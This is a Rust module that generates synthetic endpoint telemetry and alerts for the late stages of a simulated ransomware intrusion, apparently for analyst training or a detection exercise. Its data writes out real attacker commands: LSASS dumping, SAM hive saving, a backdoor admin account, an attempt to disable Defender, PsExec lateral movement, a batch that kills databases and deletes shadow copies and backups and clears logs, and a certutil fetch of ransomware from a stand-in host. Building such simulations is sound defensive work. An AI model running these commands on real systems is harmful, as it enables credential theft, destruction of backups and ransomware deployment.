//! Stages 6 and 7: on srv-fs01 the attacker becomes SYSTEM through the print spooler, sweeps the
//! directory with AdFind and PowerShell, turns on WDigest, dumps LSASS once an IT admin has signed
//! in, saves the SAM hive, adds a local admin, tries to switch off Defender, and uses the admin's
//! password to plant the implant on srv-sql01 with PsExec. After the analyst has isolated wks-014
//! and srv-fs01 and blocked the attacker's range, the attacker comes back through srv-sql01 (its
//! C2 domain re-pointed) and runs the usual pre-ransomware batch (kill databases, stop services,
//! delete shadow copies and backups, disable recovery, clear the logs) and fetches the ransomware
//! with certutil; Defender quarantines it, raises three alerts, and the analyst isolates srv-sql01.

use serde_json::json;

use super::super::org::{Device, Org, User};
use super::super::rows::{self, FileEvent, Logon, Proc};
use super::super::sentinel::{self, Alert, Product};
use super::super::{Gen, MINUTE, Rng, SECOND, dy, file_hashes, long, s};
use super::{C2_DOMAIN, C2_IP, DROP_DIR, DROPPED_BINARY, SERVER, ago};

const PRIVESC: i64 = ago(25, 50);
const ADMIN_RDP: i64 = ago(25, 35);
const DUMP: i64 = ago(25, 20);
const BACKDOOR: i64 = ago(25, 10);
const FOOTHOLD: i64 = ago(24, 50);
/// The attacker returns after the analyst has isolated wks-014 and srv-fs01 (24h10m ago).
pub(super) const RETURN: i64 = ago(21, 0);

/// Where the C2 domain points once 203.0.113.0/24 is blocked at the firewall (24h ago).
const FALLBACK_C2_IP: &str = "198.51.100.23";
const BLOCKED: i64 = ago(24, 0);
/// The batch's commands that Defender raises alerts on.
const DELETE_SHADOWS: &str = "vssadmin.exe delete shadows /all /quiet";
const CLEAR_SECURITY_LOG: &str = "wevtutil.exe cl Security";

/// The local account the attacker adds to Administrators on srv-fs01.
const BACKDOOR_ACCOUNT: &str = "svc_print";
/// The pre-ransomware host.
pub(super) const RANSOM_HOST: &str = "srv-sql01";
const RANSOM_BINARY: &str = "sqlupd.exe";
const BATCH: &str = "C:\\Windows\\Temp\\svc.bat";

/// Processes the batch kills one by one (the classic ransomware kill list).
const KILL_LIST: [&str; 12] = [
    "oracle.exe",
    "ocssd.exe",
    "dbsnmp.exe",
    "synctime.exe",
    "agntsvc.exe",
    "xfssvccon.exe",
    "mydesktopservice.exe",
    "ocautoupds.exe",
    "encsvc.exe",
    "tbirdconfig.exe",
    "ocomm.exe",
    "dbeng50.exe",
];

/// The databases the batch kills in one `taskkill` before the rest.
const SQL_KILL_LIST: [&str; 11] = [
    "sqlservr.exe",
    "sqlwriter.exe",
    "sqlagent.exe",
    "sqlbrowser.exe",
    "sqlceip.exe",
    "msftesql.exe",
    "mysqld.exe",
    "mysqld-nt.exe",
    "mysqld-opt.exe",
    "isqlplussvc.exe",
    "sql.exe",
];

/// Services the batch stops.
const STOP_LIST: [&str; 11] = [
    "MSSQLSERVER",
    "SQLSERVERAGENT",
    "SQLBrowser",
    "SQLWriter",
    "SQLTELEMETRY",
    "MSSQLFDLauncher",
    "VSS",
    "wbengine",
    "SDRSVC",
    "BackupExecJobEngine",
    "VeeamDeploymentService",
];

/// What the batch runs after the kills and stops: (file, folder, command line).
const WIPE_LIST: [(&str, &str, &str); 10] = [
    (
        "vssadmin.exe",
        "c:\\windows\\system32\\vssadmin.exe",
        DELETE_SHADOWS,
    ),
    (
        "WMIC.exe",
        "c:\\windows\\system32\\wbem\\wmic.exe",
        "wmic.exe shadowcopy delete",
    ),
    (
        "wbadmin.exe",
        "c:\\windows\\system32\\wbadmin.exe",
        "wbadmin delete catalog -quiet",
    ),
    (
        "bcdedit.exe",
        "c:\\windows\\system32\\bcdedit.exe",
        "bcdedit.exe /set {default} recoveryenabled No",
    ),
    (
        "bcdedit.exe",
        "c:\\windows\\system32\\bcdedit.exe",
        "bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures",
    ),
    (
        "schtasks.exe",
        "c:\\windows\\system32\\schtasks.exe",
        "schtasks.exe /Change /TN \"\\Microsoft\\Windows\\SystemRestore\\SR\" /disable",
    ),
    (
        "fsutil.exe",
        "c:\\windows\\system32\\fsutil.exe",
        "fsutil.exe usn deletejournal /D C:",
    ),
    (
        "wevtutil.exe",
        "c:\\windows\\system32\\wevtutil.exe",
        "wevtutil.exe cl Application",
    ),
    (
        "wevtutil.exe",
        "c:\\windows\\system32\\wevtutil.exe",
        "wevtutil.exe cl System",
    ),
    (
        "wevtutil.exe",
        "c:\\windows\\system32\\wevtutil.exe",
        CLEAR_SECURITY_LOG,
    ),
];

/// `Get-ADComputer -Filter * -Properties OperatingSystem,IPv4Address | Export-Csv
/// C:\Windows\Temp\c.csv -NoTypeInformation`, as PowerShell's `-enc` takes it (UTF-16LE, base64).
const AD_EXPORT: &str = "RwBlAHQALQBBAEQAQwBvAG0AcAB1AHQAZQByACAALQBGAGkAbAB0AGUAcgAgACoAIAAtAFAAcgBvAHAAZQByAHQAaQBlAHMAIABPAHAAZQByAGEAdABpAG4AZwBTAHkAcwB0AGUAbQAsAEkAUAB2ADQAQQBkAGQAcgBlAHMAcwAgAHwAIABFAHgAcABvAHIAdAAtAEMAcwB2ACAAQwA6AFwAVwBpAG4AZABvAHcAcwBcAFQAZQBtAHAAXABjAC4AYwBzAHYAIAAtAE4AbwBUAHkAcABlAEkAbgBmAG8AcgBtAGEAdABpAG8AbgA=";

/// The AdFind sweep ransomware operators run, one `cmd.exe /c` per query.
const ADFIND_SWEEP: [&str; 6] = [
    "cmd.exe /c adfind.exe -f \"(objectcategory=person)\" > ad_users.txt",
    "cmd.exe /c adfind.exe -f \"objectcategory=computer\" > ad_computers.txt",
    "cmd.exe /c adfind.exe -f \"(objectcategory=organizationalUnit)\" > ad_ous.txt",
    "cmd.exe /c adfind.exe -subnets -f (objectCategory=subnet) > subnets.txt",
    "cmd.exe /c adfind.exe -f \"(objectcategory=group)\" > ad_group.txt",
    "cmd.exe /c adfind.exe -gcb -sc trustdmp > trustdmp.txt",
];

/// The process id of the batch's `step`-th command (the kills, the stops, then [`WIPE_LIST`]).
const fn batch_pid(step: usize) -> i64 {
    4_500 + step as i64 * 12
}

/// The batch step of a command of [`WIPE_LIST`].
const fn wipe_step(index: usize) -> usize {
    1 + KILL_LIST.len() + STOP_LIST.len() + index
}

/// A Windows tool run by `parent` as `parent`'s account.
fn tool<'a>(parent: &Proc<'a>, file: &'a str, folder: &'a str, cmd: &'a str, pid: i64) -> Proc<'a> {
    Proc {
        file,
        folder,
        command_line: cmd,
        pid,
        parent: parent.file,
        account: parent.account,
    }
}

/// Writes stages 6 and 7.
pub(super) fn write(g: &mut Gen, org: &Org, rng: &mut Rng, at: impl Fn(i64) -> i64) {
    let admin = org.user("adavis");
    let fs = org.device(SERVER);
    let sql = org.device(RANSOM_HOST);

    // Privilege escalation: a driver through the print spooler, which starts the implant as SYSTEM.
    let spooler = Proc {
        file: "spoolsv.exe",
        folder: "c:\\windows\\system32\\spoolsv.exe",
        command_line: "C:\\WINDOWS\\System32\\spoolsv.exe",
        pid: 2_468,
        parent: "services.exe",
        account: None,
    };
    let drivers = "C:\\Windows\\System32\\spool\\drivers\\x64\\3";
    rows::file_event(
        g,
        fs,
        &spooler,
        FileEvent {
            time: at(PRIVESC),
            action: "FileCreated",
            name: "kdrv.dll",
            folder: drivers,
            size: 94_208,
            origin_url: "",
            remote: None,
        },
    );
    rows::image_load(
        g,
        fs,
        at(PRIVESC) + 2 * SECOND,
        &spooler,
        "kdrv.dll",
        drivers,
    );
    let implant_cmd = format!("\"{DROP_DIR}\\{DROPPED_BINARY}\" /svc");
    let implant = Proc {
        file: DROPPED_BINARY,
        folder: "c:\\programdata\\microsoft\\winupdate\\wuauhelper.exe",
        command_line: &implant_cmd,
        pid: 6_332,
        parent: "spoolsv.exe",
        account: None,
    };
    rows::process_created(g, fs, at(PRIVESC) + 3 * SECOND, &spooler, &implant);

    // WDigest keeps the next interactive logon's password in LSASS memory.
    let wdigest_cmd = "reg.exe add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f";
    let reg = tool(
        &implant,
        "reg.exe",
        "c:\\windows\\system32\\reg.exe",
        wdigest_cmd,
        6_410,
    );
    rows::process_created(g, fs, at(PRIVESC) + 2 * MINUTE, &implant, &reg);
    rows::registry_event(
        g,
        fs,
        at(PRIVESC) + 2 * MINUTE + SECOND,
        &reg,
        "RegistryValueSet",
        (
            "HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Control\\SecurityProviders\\WDigest",
            "UseLogonCredential",
            "Dword",
            "1",
        ),
    );
    // Directory reconnaissance: AdFind, then the computers through PowerShell's AD module.
    for (k, cmd) in ADFIND_SWEEP.iter().enumerate() {
        let shell = tool(
            &implant,
            "cmd.exe",
            "c:\\windows\\system32\\cmd.exe",
            cmd,
            6_420 + k as i64 * 16,
        );
        rows::process_created(
            g,
            fs,
            at(PRIVESC) + 4 * MINUTE + k as i64 * 3 * SECOND,
            &implant,
            &shell,
        );
    }
    let ad_export = format!("powershell.exe -nop -w hidden -enc {AD_EXPORT}");
    let export = tool(
        &implant,
        "powershell.exe",
        "c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe",
        &ad_export,
        6_530,
    );
    rows::process_created(g, fs, at(PRIVESC) + 6 * MINUTE, &implant, &export);
    // An IT admin signs in to the file server over RDP, as admins do.
    rows::logon(
        g,
        fs,
        Logon {
            time: at(ADMIN_RDP),
            user: Some(admin),
            logon_type: "RemoteInteractive",
            success: true,
            protocol: "Kerberos",
            remote: Some(org.workstation_of(admin)),
        },
    );

    // Credential theft: LSASS memory and the SAM and SYSTEM hives.
    let credential_tools: [(&str, &str, &str); 3] = [
        (
            "procdump64.exe",
            "c:\\programdata\\microsoft\\winupdate\\procdump64.exe",
            "procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\lsass.dmp",
        ),
        (
            "reg.exe",
            "c:\\windows\\system32\\reg.exe",
            "reg.exe save hklm\\sam C:\\Windows\\Temp\\sam.hiv /y",
        ),
        (
            "reg.exe",
            "c:\\windows\\system32\\reg.exe",
            "reg.exe save hklm\\system C:\\Windows\\Temp\\system.hiv /y",
        ),
    ];
    for (k, (file, folder, cmd)) in credential_tools.into_iter().enumerate() {
        let time = at(DUMP) + k as i64 * MINUTE;
        let child = tool(&implant, file, folder, cmd, 6_500 + k as i64 * 36);
        rows::process_created(g, fs, time, &implant, &child);
        let (name, size) = match k {
            0 => {
                rows::device_event(
                    g,
                    fs,
                    time + SECOND,
                    &child,
                    "OpenProcessApiCall",
                    [
                        ("FileName", s("lsass.exe")),
                        ("FolderPath", s("C:\\Windows\\System32\\lsass.exe")),
                        ("AdditionalFields", dy(json!({"DesiredAccess": 2_097_151}))),
                    ],
                );
                ("lsass.dmp", 58_720_256)
            }
            1 => ("sam.hiv", 65_536),
            _ => ("system.hiv", 17_301_504),
        };
        rows::file_event(
            g,
            fs,
            &child,
            FileEvent {
                time: time + 4 * SECOND,
                action: "FileCreated",
                name,
                folder: "C:\\Windows\\Temp",
                size,
                origin_url: "",
                remote: None,
            },
        );
    }

    backdoor_account(g, fs, &implant, at(BACKDOOR));

    // Defender's tamper protection refuses to turn real-time protection off.
    let tamper_cmd =
        "powershell.exe -ep bypass -command \"Set-MpPreference -DisableRealtimeMonitoring $true\"";
    let tamper = tool(
        &implant,
        "powershell.exe",
        "c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe",
        tamper_cmd,
        7_004,
    );
    rows::process_created(g, fs, at(BACKDOOR) + 5 * MINUTE, &implant, &tamper);
    rows::device_event(
        g,
        fs,
        at(BACKDOOR) + 5 * MINUTE + 2 * SECOND,
        &tamper,
        "TamperingAttempt",
        [
            (
                "RegistryKey",
                s(
                    "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows Defender\\Real-Time Protection",
                ),
            ),
            ("RegistryValueName", s("DisableRealtimeMonitoring")),
            (
                "AdditionalFields",
                dy(
                    json!({"TamperingAction": "RegistryModification", "Status": "Blocked",
                          "Target": "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring",
                          "OriginalValue": "0", "TamperingAttemptedValue": "1"}),
                ),
            ),
        ],
    );

    let sql_implant = foothold(g, rng, (fs, sql), (&implant, admin), at(FOOTHOLD));
    let mut beacon = at(FOOTHOLD) + 2 * MINUTE;
    while beacon < at(RETURN) + 30 * MINUTE {
        let c2 = if beacon < at(BLOCKED) {
            C2_IP
        } else {
            FALLBACK_C2_IP
        };
        rows::connection(
            g,
            sql,
            beacon,
            &sql_implant,
            "ConnectionSuccess",
            (c2, 443, C2_DOMAIN),
            rng.range(50_000, 60_000) as i32,
        );
        beacon += 30 * MINUTE + rng.range(0, 120) * SECOND;
    }
    ransomware_batch(g, sql, &sql_implant, at(RETURN));
}

/// A local account added to Administrators: the commands, 4720 and 4732, and Defender's events.
fn backdoor_account(g: &mut Gen, d: &Device, implant: &Proc<'_>, time: i64) {
    let host = d.short.to_ascii_uppercase();
    let sid = "S-1-5-21-2871035190-1944120553-3342105921-1009";
    let commands = [
        format!("net.exe user {BACKDOOR_ACCOUNT} Spo0ler!2026 /add"),
        format!("net.exe localgroup administrators {BACKDOOR_ACCOUNT} /add"),
    ];
    for (k, cmd) in commands.iter().enumerate() {
        let t = time + k as i64 * 20 * SECOND;
        let net = tool(
            implant,
            "net.exe",
            "c:\\windows\\system32\\net.exe",
            cmd,
            6_900 + k as i64 * 8,
        );
        rows::process_created(g, d, t, implant, &net);
        let (event, action, target, target_sid, target_domain) = if k == 0 {
            (
                4720,
                "UserAccountCreated",
                BACKDOOR_ACCOUNT,
                sid,
                host.as_str(),
            )
        } else {
            (
                4732,
                "UserAccountAddedToLocalGroup",
                "Administrators",
                "S-1-5-32-544",
                "Builtin",
            )
        };
        rows::security_event(
            g,
            d,
            t + SECOND,
            event,
            [
                ("SubjectUserName", s(format!("{host}$"))),
                ("SubjectDomainName", s("CONTOSO")),
                ("SubjectUserSid", s("S-1-5-18")),
                ("SubjectLogonId", s("0x3e7")),
                ("SubjectAccount", s(format!("CONTOSO\\{host}$"))),
                ("TargetUserName", s(target)),
                ("TargetDomainName", s(target_domain)),
                ("TargetSid", s(target_sid)),
                ("TargetAccount", s(format!("{target_domain}\\{target}"))),
                ("MemberName", s(if k == 0 { "" } else { "-" })),
                ("MemberSid", s(if k == 0 { "" } else { sid })),
                (
                    "SamAccountName",
                    s(if k == 0 { BACKDOOR_ACCOUNT } else { "" }),
                ),
                (
                    "UserAccountControl",
                    s(if k == 0 { "%%2080 %%2082 %%2084" } else { "" }),
                ),
            ],
        );
        rows::device_event(
            g,
            d,
            t + SECOND,
            &net,
            action,
            [
                ("AccountName", s(BACKDOOR_ACCOUNT)),
                ("AccountDomain", s(&host)),
                ("AccountSid", s(sid)),
                (
                    "AdditionalFields",
                    dy(if k == 0 {
                        json!({})
                    } else {
                        json!({"GroupName": "Administrators", "GroupDomainName": "BUILTIN",
                               "GroupSid": "S-1-5-32-544"})
                    }),
                ),
            ],
        );
    }
}

/// PsExec from `from` to `to` with the admin's password: the implant runs there as a SYSTEM
/// service. Returns the implant's process on `to`.
fn foothold<'a>(
    g: &mut Gen,
    rng: &mut Rng,
    (from, to): (&Device, &Device),
    (implant, admin): (&Proc<'_>, &User),
    time: i64,
) -> Proc<'a> {
    let psexec_cmd = format!(
        "PsExec64.exe -accepteula \\\\{} -u contoso\\{} -p ******** -s -d -c {DROP_DIR}\\{DROPPED_BINARY} /svc",
        to.short, admin.sam
    );
    let psexec = tool(
        implant,
        "PsExec64.exe",
        "c:\\programdata\\microsoft\\winupdate\\psexec64.exe",
        &psexec_cmd,
        7_212,
    );
    rows::process_created(g, from, time, implant, &psexec);
    rows::connection(
        g,
        from,
        time + SECOND,
        &psexec,
        "ConnectionSuccess",
        (&to.ip, 445, ""),
        rng.range(50_000, 60_000) as i32,
    );
    rows::logon(
        g,
        to,
        Logon {
            time: time + 2 * SECOND,
            user: Some(admin),
            logon_type: "Network",
            success: true,
            protocol: "NTLM",
            remote: Some(from),
        },
    );
    let kernel = Proc {
        file: "System",
        folder: "",
        command_line: "",
        pid: 4,
        parent: "",
        account: None,
    };
    for (k, (name, size)) in [("PSEXESVC.exe", 395_424), (DROPPED_BINARY, 1_482_752)]
        .into_iter()
        .enumerate()
    {
        rows::file_event(
            g,
            to,
            &kernel,
            FileEvent {
                time: time + (3 + k as i64) * SECOND,
                action: "FileCreated",
                name,
                folder: "C:\\Windows",
                size,
                origin_url: "",
                remote: Some((admin, &from.ip)),
            },
        );
    }
    let psexesvc = tool(
        &rows::SYSTEM,
        "PSEXESVC.exe",
        "c:\\windows\\psexesvc.exe",
        "C:\\Windows\\PSEXESVC.exe",
        3_120,
    );
    rows::process_created(g, to, time + 6 * SECOND, &rows::SYSTEM, &psexesvc);
    let implant = tool(
        &psexesvc,
        DROPPED_BINARY,
        "c:\\windows\\wuauhelper.exe",
        "\"C:\\Windows\\wuauhelper.exe\" /svc",
        3_356,
    );
    rows::process_created(g, to, time + 7 * SECOND, &psexesvc, &implant);
    implant
}

/// The pre-ransomware batch on `d`, started by the implant at `time`, and Defender's quarantine of
/// the ransomware binary.
fn ransomware_batch(g: &mut Gen, d: &Device, implant: &Proc<'_>, time: i64) {
    let batch_cmd = format!("C:\\WINDOWS\\system32\\cmd.exe /c {BATCH}");
    let cmd = tool(
        implant,
        "cmd.exe",
        "c:\\windows\\system32\\cmd.exe",
        &batch_cmd,
        4_400,
    );
    rows::process_created(g, d, time, implant, &cmd);
    let sql_kill = format!(
        "taskkill.exe /F{}",
        SQL_KILL_LIST
            .iter()
            .map(|p| format!(" /IM {p}"))
            .collect::<String>()
    );
    let kills: Vec<String> = KILL_LIST
        .iter()
        .map(|p| format!("taskkill.exe /F /IM {p}"))
        .collect();
    let stops: Vec<String> = STOP_LIST
        .iter()
        .map(|svc| format!("net.exe stop \"{svc}\" /y"))
        .collect();
    let taskkill = ("taskkill.exe", "c:\\windows\\system32\\taskkill.exe");
    let net = ("net.exe", "c:\\windows\\system32\\net.exe");
    let steps = std::iter::once((taskkill, sql_kill.as_str()))
        .chain(kills.iter().map(|c| (taskkill, c.as_str())))
        .chain(stops.iter().map(|c| (net, c.as_str())))
        .chain(WIPE_LIST.iter().map(|&(f, p, c)| ((f, p), c)));
    let mut t = time + 2 * SECOND;
    for (k, ((file, folder), command_line)) in steps.enumerate() {
        let child = tool(&cmd, file, folder, command_line, batch_pid(k));
        rows::process_created(g, d, t, &cmd, &child);
        if command_line == CLEAR_SECURITY_LOG {
            rows::security_event(
                g,
                d,
                t + SECOND,
                1102,
                [
                    (
                        "SubjectUserName",
                        s(format!("{}$", d.short.to_ascii_uppercase())),
                    ),
                    ("SubjectDomainName", s("CONTOSO")),
                    ("SubjectUserSid", s("S-1-5-18")),
                    ("SubjectLogonId", s("0x3e7")),
                ],
            );
            rows::device_event(g, d, t + SECOND, &child, "SecurityLogCleared", []);
        }
        // A batch file runs its commands back to back.
        t += SECOND;
    }

    // The ransomware itself: fetched with certutil, then quarantined by Defender before it runs.
    let folder = "C:\\Windows\\Temp";
    let url = format!("http://{FALLBACK_C2_IP}/{RANSOM_BINARY}");
    let fetch_cmd = format!("certutil.exe -urlcache -split -f {url} {folder}\\{RANSOM_BINARY}");
    let certutil = tool(
        implant,
        "certutil.exe",
        "c:\\windows\\system32\\certutil.exe",
        &fetch_cmd,
        4_900,
    );
    rows::process_created(g, d, t + 25 * SECOND, implant, &certutil);
    rows::connection(
        g,
        d,
        t + 27 * SECOND,
        &certutil,
        "ConnectionSuccess",
        (FALLBACK_C2_IP, 80, &url),
        55_121,
    );
    rows::file_event(
        g,
        d,
        &certutil,
        FileEvent {
            time: t + 30 * SECOND,
            action: "FileCreated",
            name: RANSOM_BINARY,
            folder,
            size: 2_318_336,
            origin_url: &url,
            remote: None,
        },
    );
    let (sha1, sha256, md5) = file_hashes(RANSOM_BINARY);
    let defender = Proc {
        file: "MsMpEng.exe",
        folder: "c:\\programdata\\microsoft\\windows defender\\platform\\4.18.24090.11-0\\msmpeng.exe",
        command_line: "\"MsMpEng.exe\"",
        pid: 3_012,
        parent: "services.exe",
        account: None,
    };
    rows::device_event(
        g,
        d,
        t + 31 * SECOND,
        &defender,
        "AntivirusDetection",
        [
            ("FileName", s(RANSOM_BINARY)),
            ("FolderPath", s(format!("{folder}\\{RANSOM_BINARY}"))),
            ("SHA1", s(sha1)),
            ("SHA256", s(sha256)),
            ("MD5", s(md5)),
            ("FileSize", long(2_318_336)),
            (
                "AdditionalFields",
                dy(
                    json!({"ThreatName": "Ransom:Win64/Filecoder.RB!MTB", "WasRemediated": true,
                          "WasExecutingWhileDetected": false, "Category": "Ransomware",
                          "Action": "quarantine"}),
                ),
            ),
        ],
    );
}

/// Defender's alerts on srv-sql01: the cleared log, the deleted backups and the ransomware it
/// stopped.
pub(super) fn alerts(org: &Org, at: impl Fn(i64) -> i64) -> [Alert<'static>; 3] {
    let sql = org.device(RANSOM_HOST);
    let batch = at(RETURN);
    let (_, sha256, _) = file_hashes(RANSOM_BINARY);
    [
        Alert {
            name: "File backups were deleted",
            severity: "High",
            product: Product::Endpoint,
            description: "Shadow copies and the backup catalog were deleted, as ransomware does before it encrypts.",
            tactics: "Impact",
            techniques: &["T1490"],
            compromised: "srv-sql01.contoso.com",
            entities: vec![
                sentinel::host(sql),
                sentinel::process(DELETE_SHADOWS, batch_pid(wipe_step(0))),
            ],
            start: batch,
            end: batch + 30 * SECOND,
        },
        Alert {
            name: "Event log was cleared",
            severity: "Medium",
            product: Product::Endpoint,
            description: "The Application, System and Security event logs were cleared.",
            tactics: "DefenseEvasion",
            techniques: &["T1070.001"],
            compromised: "srv-sql01.contoso.com",
            entities: vec![
                sentinel::host(sql),
                sentinel::process(
                    CLEAR_SECURITY_LOG,
                    // The Security log is the batch's last step.
                    batch_pid(wipe_step(WIPE_LIST.len() - 1)),
                ),
            ],
            start: batch + 30 * SECOND,
            end: batch + 40 * SECOND,
        },
        Alert {
            name: "'Filecoder' ransomware was prevented",
            severity: "High",
            product: Product::Endpoint,
            description: "Microsoft Defender Antivirus quarantined Ransom:Win64/Filecoder.RB!MTB before it ran.",
            tactics: "Impact",
            techniques: &["T1486"],
            compromised: "srv-sql01.contoso.com",
            entities: vec![
                sentinel::host(sql),
                sentinel::file(RANSOM_BINARY, "C:\\Windows\\Temp", &sha256),
                sentinel::ip(FALLBACK_C2_IP),
            ],
            start: batch + MINUTE,
            end: batch + MINUTE,
        },
    ]
}
